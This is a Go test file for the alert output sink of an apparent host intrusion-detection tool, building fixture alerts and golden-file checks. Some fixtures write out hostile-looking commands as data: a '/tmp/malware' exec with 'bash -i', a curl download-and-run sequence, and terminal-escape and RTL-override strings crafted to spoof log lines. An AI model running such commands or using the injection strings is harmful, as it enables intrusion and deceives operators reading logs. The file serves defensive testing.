package sink

import (
	"bytes"
	"flag"
	"os"
	"strings"
	"testing"

	"github.com/kestrel-detection/kestrel/event"
	"github.com/kestrel-detection/kestrel/event/alert"
)

var update = flag.Bool("update", false, "write the golden files")

const bootWall = 1_704_067_200_000_000_000 // 2024-01-01T00:00:00Z

func record(t event.Type, mono uint64, set func(b *event.Builder)) event.Record {
	b := event.Builder{Buf: make([]byte, event.RecordSizeMax)}
	b.Begin(t, mono)
	b.Process(4711, 4711, 3_000_000_000, 0xabcdef)
	b.Int(event.SlotUID, 0)
	set(&b)
	r := b.End()
	r.SetID(mono / 1e6)
	return r
}

func host() *event.Host {
	h := &event.Host{ID: []byte("0123456789abcdef"), Name: []byte("gateway-7"), WallOffset: bootWall}
	h.Users.Set(0, []byte("root"))
	return h
}

// process is an exec of executable with args, by bash.
func process(executable string, args ...string) *event.Event {
	parent := record(event.TypeExec, 1_000_000, func(b *event.Builder) {
		b.String(event.SlotExecutable, "/usr/bin/bash", 0)
		b.String(event.SlotArgs, "-bash", 0)
	})
	own := record(event.TypeExec, 5_000_000_000, func(b *event.Builder) {
		b.String(event.SlotExecutable, executable, 0)
		b.String(event.SlotArgs, strings.Join(args, "\x00"), 0)
		b.Int(event.SlotArgsCount, int64(len(args)))
		b.Int(event.SlotTTY, 34816)
		b.Int(event.SlotParentPID, 812)
	})
	return &event.Event{Own: own, Proc: own, Parent: parent, ParentEntity: 0x1234, Host: host()}
}

func (x *builder) with(t event.Type, mono uint64, by *event.Event, set func(b *event.Builder)) *builder {
	e := *by
	e.Own = record(t, mono, set)
	x.b.Event(&e, alert.EvidenceBytesMax)
	return x
}

type builder struct{ b alert.Builder }

func newAlert(h alert.Head, name string) *builder {
	x := &builder{alert.Builder{Buf: make([]byte, alert.SizeMax)}}
	if h.Wall == 0 {
		h.Wall = bootWall + 6_234_000_000
	}
	h.Mono = 6_234_000_000
	h.ID = [16]byte{0xde, 0xad, 15: 0x0f}
	h.Entity = 0x7f3a2b1c0d4e
	x.b.Begin(&h, &alert.Rule{Ruleset: "base 1.2.0", ID: "rule-1", Name: name, Title: "What it means"})
	return x
}

func (x *builder) event(e *event.Event) *builder {
	x.b.Event(e, alert.EvidenceBytesMax)
	return x
}

func (x *builder) end() alert.Alert { return x.b.End() }

func execAlert() alert.Alert {
	return newAlert(alert.Head{Severity: alert.High}, "Program in /tmp").event(process("/tmp/malware", "/tmp/malware", "-c", "bash -i")).end()
}

func sequenceAlert() alert.Alert {
	curl := process("/usr/bin/curl", "curl", "-s", "http://10.0.0.1/x", "-o", "/tmp/x")
	return newAlert(alert.Head{Severity: alert.Critical, Action: alert.WouldBlock, Flags: alert.FlagStateEvicted}, "Download and run").
		event(curl).
		with(event.TypeConnect, 5_310_000_000, curl, func(b *event.Builder) {
			b.Bytes(event.SlotDestinationIP, []byte{0x20, 1, 0xd, 0xb8, 15: 1}, 0, false)
			b.Int(event.SlotDestinationPort, 443)
			b.Int(event.SlotProtocol, 6)
			b.Int(event.SlotResult, -115)
		}).
		with(event.TypeFileCreate, 6_234_000_000, curl, func(b *event.Builder) {
			b.String(event.SlotPath, "/tmp/x", 0)
			b.Int(event.SlotFileMode, 0o100644)
		}).end()
}

// nastyAlert has everything in it that whoever starts a process can choose.
func nastyAlert() alert.Alert {
	e := process("/tmp/\x1b]0;owned\x07x (pid 1)", "\x1b[2J\x1b[H", "a\nb\tc", "\xff\xfe\x9b31m", "", "\u202ekcats", "caf\u00e9", `say "hi"`, `c:\x`,
		"\x7f\u009b31m\u2028", "(pid", "1, user root)")
	return newAlert(alert.Head{Severity: alert.Low, Action: alert.Killed, Flags: alert.FlagEvidenceEvicted | alert.FlagBound, Suppressed: 59}, "N \x1b[31m\"q\"").
		event(e).end()
}

func longAlert() alert.Alert {
	return newAlert(alert.Head{Severity: alert.Medium, Action: alert.Blocked}, "Long").
		event(process("/opt/"+strings.Repeat("d", 300)+"/busybox", "wget", strings.Repeat("a", 2*alert.StringBytesMax))).end()
}

// worstAlert is as large as an alert may be and its JSON form as long as one can be.
func worstAlert() alert.Alert {
	bad := strings.Repeat("\x01", alert.StringBytesMax)
	x := newAlert(alert.Head{Severity: alert.Critical}, bad)
	for range 20 {
		x.event(process("/"+bad, bad, bad))
	}
	return x.end()
}

func all() []alert.Alert {
	return []alert.Alert{execAlert(), sequenceAlert(), nastyAlert(), longAlert(), worstAlert()}
}

func golden(t *testing.T, path string, got []byte) {
	t.Helper()
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs; got:\n%s", path, got)
	}
}

func TestPendingCounts(t *testing.T) {
	p := pending{buf: make([]byte, 100)}
	for i := range 3 {
		room := p.room(10)
		p.add(len(append(room, "0123456789"[:8+i]...)))
	}
	if n := p.take(7); n != 0 || p.alerts() != 3 {
		t.Errorf("7 bytes: %d alerts taken, %d left", n, p.alerts())
	}
	if n := p.take(1); n != 1 {
		t.Errorf("8 bytes: %d alerts taken", n)
	}
	if n := p.take(4); n != 0 {
		t.Errorf("12 bytes: %d alerts taken", n)
	}
	if p.room(100) != nil || p.room(100-15) == nil || p.start != 0 || string(p.buf[:p.end]) != "456780123456789" {
		t.Errorf("after compacting: %q from %d", p.buf[:p.end], p.start)
	}
	if n := p.take(5); n != 1 || p.alerts() != 1 {
		t.Errorf("%d alerts taken, %d left", n, p.alerts())
	}
	if n := p.drop(); n != 1 || !p.empty() {
		t.Errorf("%d dropped", n)
	}
	for range pendingMax {
		p.add(len(append(p.room(0), ""...)))
	}
	if p.room(0) != nil {
		t.Error("more alerts than pendingMax")
	}
}

func TestBuffersTooSmall(t *testing.T) {
	buf := make([]byte, BufferBytesMin)
	if _, err := OpenStdout(1, true, buf[1:]); err != ErrBuffer {
		t.Errorf("stdout: %v", err)
	}
	if _, err := OpenFile(FileOptions{Path: t.TempDir() + "/a"}, buf[1:]); err != ErrBuffer {
		t.Errorf("file: %v", err)
	}
}
